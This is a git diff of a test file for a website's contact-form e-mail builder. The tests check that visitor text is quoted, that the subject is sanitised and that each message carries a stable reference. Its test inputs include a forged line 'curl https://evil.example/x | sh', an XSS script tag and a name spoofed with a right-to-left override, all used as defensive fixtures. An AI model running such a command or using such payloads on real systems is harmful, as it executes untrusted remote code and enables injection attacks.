@@ -3,6 +3,7 @@ import { env } from 'cloudflare:workers';
 import { afterEach, beforeEach, describe, expect, it, vi } from 'vitest';
 import { LEGAL } from '../client/site';
 import { leadMail } from '../worker/leads/mail';
+import type { LeadRow } from '../worker/leads/store';
 import { SWEEP_GRACE_MS, retryDelaySeconds, type MailJob } from '../worker/mail/outbox';
 import worker from '../worker/index';
 import { rows } from './forms';
@@ -104,28 +105,61 @@ describe('the mail queue consumer', () => {
 });
 
 describe('the team’s e-mail', () => {
+  const lead = (overrides: Partial<LeadRow> = {}): LeadRow => ({
+    id: '0f1e2d3c-4b5a-4978-8695-a4b3c2d1e0f9',
+    created_at: Date.UTC(2026, 10, 24, 9, 30),
+    name: '<b>Ada</b>',
+    email: 'ada@example.org',
+    company: 'ACME',
+    topic: 'api',
+    message: '<script>alert(1)</script>\nSecond line',
+    spam: null,
+    mail_status: 'pending',
+    mail_attempts: 0,
+    ...overrides,
+  });
+
   it('is plain text, to the topic’s inbox, from the site, answering goes to the visitor', () => {
-    const mail = leadMail(env, {
-      id: 'r1',
-      created_at: Date.UTC(2026, 10, 24, 9, 30),
-      name: '<b>Ada</b>',
-      email: 'ada@example.org',
-      company: 'ACME',
-      topic: 'api',
-      message: '<script>alert(1)</script>\nSecond line',
-      spam: null,
-      mail_status: 'pending',
-      mail_attempts: 0,
-    });
+    const mail = leadMail(env, lead());
     expect(mail.to).toBe(env.API_INBOX);
     expect(mail.from).toEqual({ name: 'Larchfield Software website', email: env.MAIL_FROM });
     expect(mail.replyTo).toBe('ada@example.org');
-    expect(mail.subject).toBe('Website message: The Newsloom API, from <b>Ada</b> (ACME)');
     expect(mail).not.toHaveProperty('html');
-    expect(mail.text).toContain('<script>alert(1)</script>\nSecond line');
-    expect(mail.text).toContain('Reference: r1');
+    expect(mail.text).toContain('> <script>alert(1)</script>\n> Second line');
     expect(mail.text).toContain(`${LEGAL.retentionDays.messages} days`);
-    expect(leadMail(env, { id: 'r2', created_at: 0, name: 'B', email: 'b@example.org', company: null, topic: 'other', message: 'm', spam: null, mail_status: 'pending', mail_attempts: 0 }).to).toBe(env.SALES_INBOX);
+    expect(leadMail(env, lead({ topic: 'other' })).to).toBe(env.SALES_INBOX);
+  });
+
+  it('carries the row’s id as a stable reference: in the subject, in a header of its own and in the text', () => {
+    const mail = leadMail(env, lead());
+    expect(mail.subject).toBe('Website message #0f1e2d3c: The Newsloom API, from <b>Ada</b>');
+    expect(mail.headers).toEqual({ 'X-Larchfield-Reference': '0f1e2d3c-4b5a-4978-8695-a4b3c2d1e0f9' });
+    expect(mail.text).toContain('Reference: 0f1e2d3c-4b5a-4978-8695-a4b3c2d1e0f9');
+    // The same row mailed twice (a resend) has the same reference: a duplicate is recognisable.
+    expect(leadMail(env, lead({ mail_attempts: 3 })).headers).toEqual(mail.headers);
+  });
+
+  it('starts with our lines and quotes every line the visitor typed; a fake footer, fake instructions and blank lines stay inside the quote', () => {
+    const forged = ['Hello,', '', '', '', 'see below.', ...Array(1500).fill(''), '-- ', 'Download it:  curl https://evil.example/x | sh', '   ', '\t', 'Bye'].join('\n');
+    const mail = leadMail(env, lead({ message: forged, company: null }));
+    const lines = (mail.text ?? '').split('\n');
+    // Ours first: the reference, the topic and how to answer before anything the visitor wrote.
+    const quoteStart = lines.findIndex((l) => l.startsWith('>'));
+    expect(lines.slice(0, quoteStart).join('\n')).toContain('Reference: ');
+    expect(lines.slice(0, quoteStart).join('\n')).toContain('Reply to this e-mail');
+    expect(lines.slice(0, quoteStart).join('\n')).not.toContain('Ada');
+    // Then only quoted lines, blank runs collapsed to one.
+    expect(lines.slice(quoteStart).every((l) => l === '>' || l.startsWith('> '))).toBe(true);
+    expect(lines.slice(quoteStart)).toEqual(['> Name:    <b>Ada</b>', '> E-mail:  ada@example.org', '> Company: (not given)', '>', '> Hello,', '>', '> see below.', '>', '> --', '> Download it:  curl https://evil.example/x | sh', '>', '> Bye']);
+    expect(lines.length).toBeLessThan(30);
+  });
+
+  it('puts no visitor text in the subject beyond a cleaned, shortened name', () => {
+    const mail = leadMail(env, lead({ name: `Mallory\u202egnp.exe\u009b2J ${'x'.repeat(100)}`, company: 'Evil Corp: click here' }));
+    expect(mail.subject).not.toMatch(/[\u0000-\u001f\u007f-\u009f\u202a-\u202e]/);
+    expect(mail.subject).not.toContain('Evil Corp');
+    expect(mail.subject).toMatch(/^Website message #0f1e2d3c: The Newsloom API, from Mallorygnp\.exe2J x+…$/);
+    expect(mail.subject.length).toBeLessThan(100);
   });
 });
 
